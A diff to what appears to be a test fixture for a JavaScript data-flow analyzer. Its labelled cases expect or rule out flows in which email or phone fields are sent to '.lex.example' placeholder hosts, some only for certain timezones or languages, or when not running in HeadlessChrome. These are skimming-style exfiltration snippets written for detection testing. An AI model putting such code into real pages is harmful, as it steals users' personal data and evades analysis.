@@ -58,12 +58,13 @@ z2 === 'Asia/Tokyo' || navigator.sendBeacon('https://orsc.lex.example/s', docume
 const p3 = document.querySelector('input[type=tel]').value;
 p3.startsWith('+7') ? fetch('https://tern.lex.example/t', { method: 'POST', body: p3 }) : console.log('skip');
 
-//# ternary-of-hosts
-// flow: email > www.lexhost.example via fetch
-// flow: email > cn.lexhost.example via fetch
-// why: near miss: the language chooses a host, either way something is sent
-const h = navigator.language === 'zh-CN' ? 'cn.lexhost.example' : 'www.lexhost.example';
-fetch('https://' + h + '/h', { method: 'POST', body: document.querySelector('input[type=email]').value });
+//# ternary-of-captions
+// flow: email > capt.lex.example via fetch
+// no guard
+// why: the language chooses a caption only
+const caption = navigator.language === 'zh-CN' ? '\u767b\u5f55' : 'Sign in';
+document.querySelector('#go').textContent = caption;
+fetch('https://capt.lex.example/h', { method: 'POST', body: document.querySelector('input[type=email]').value });
 
 //# guard-in-handler
 // flow: search > hand.lex.example via fetch
@@ -86,13 +87,15 @@ if (navigator.userAgent.indexOf('Android') !== -1) {
 // guard: not user-agent contains HeadlessChrome
 if (!navigator.userAgent.includes('HeadlessChrome')) new Image().src = 'https://neg.lex.example/d?p=' + navigator.platform;
 
-//# both-branches-send
-// flow: email > same.lex.example via fetch
-// flow: email > same.lex.example via beacon
-// why: near miss: whatever the answer, the address goes to the same host
-const em = document.querySelector('input[type=email]').value;
-if (/Firefox/.test(navigator.userAgent)) navigator.sendBeacon('https://same.lex.example/b', em);
-else fetch('https://same.lex.example/f', { method: 'POST', body: em });
+//# guard-joined-before-sink
+// flow: email > join.lex.example via fetch
+// no guard
+// why: both branches meet again before the request
+let note;
+if (/Firefox/.test(navigator.userAgent)) note = 'gecko';
+else note = 'other';
+console.debug(note);
+fetch('https://join.lex.example/f', { method: 'POST', body: document.querySelector('input[type=email]').value });
 
 //# guarded-log-only
 // no flow
@@ -108,3 +111,16 @@ const beta = navigator.language === 'fr';
 if (beta) {
   if (!beta) fetch('https://contra.lex.example/c', { method: 'POST', body: document.querySelector('input[type=email]').value });
 }
+
+//# guard-around-constant
+// no flow
+// why: the branch for Shanghai sends a constant, the other keeps the number in the page
+const no = document.querySelector('input[type=tel]').value;
+if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai') fetch('https://const.lex.example/cn');
+else sessionStorage.setItem('tel', no);
+
+//# never-both
+// no flow
+// why: a constant cannot have two values
+const region = 'eu';
+if (region === 'cn') fetch('https://both.lex.example/b', { method: 'POST', body: document.querySelector('input[type=email]').value });
